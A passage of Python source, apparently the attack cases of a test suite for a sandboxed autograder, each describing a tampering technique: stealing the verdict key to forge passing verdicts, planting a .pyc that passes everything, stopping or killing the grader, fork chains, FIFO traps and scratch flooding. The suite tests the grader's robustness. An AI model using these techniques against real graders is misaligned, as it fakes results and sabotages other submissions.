           "directory as it appears (the next run's working directory among them); MB is 10**6 bytes.", PLANT_SPEC),
    attack("attack_steals_key",
           "A daemon watches /proc for the grader's pytest, reads the verdict key from its key descriptor (and "
           "puts it back) and writes signed passing verdicts into its verdict descriptor; MB is 10**6 bytes.", STEAL_KEY),
    attack("attack_leftover_kills_classmates",
           "A chain of processes that re-grows (every generation forks and dies) kills the grader's runs of "
           "every later submission of the batch, for 150 s; MB is 10**6 bytes.", LEFTOVER_CHAIN),
    attack("attack_plants_pyc",
           "Writes a .pyc of the grader's spec/grader/stream.py (signing every verdict as a pass) into the "
           "__pycache__ beside it, with the source's mtime and size (only into a throw-away copy of the grader "
           "marked for it); MB is 10**6 bytes.", PLANT_PYC),
    attack("attack_fifo_traps",
           "A daemon puts FIFOs and symlinks to /dev/zero in place of every file the grader might read or "
           "write, in its scratch directories, its --out and the batch's progress records; MB is 10**6 bytes.", FIFO_TRAPS),
    attack("attack_stops_grader",
           "A daemon sends SIGSTOP to every ancestor up to the grader, and SIGCONT 3 s later; MB is 10**6 bytes.", STOP_GRADER),
    attack("attack_kills_grader",
           "A daemon sends SIGKILL to every ancestor up to the grader; MB is 10**6 bytes.", KILL_GRADER),
    attack("attack_floods_scratch",
           "A daemon floods the grader's scratch directories with files and nests directories 3000 deep in "
           "them (breaking a recursive removal), for 60 s; MB is 10**6 bytes.", FLOOD_SCRATCH),
    attack("attack_hangs_at_import", "Its import never returns (a busy loop at module level).", HANG_AT_IMPORT,
           expect_score=0.0),
]
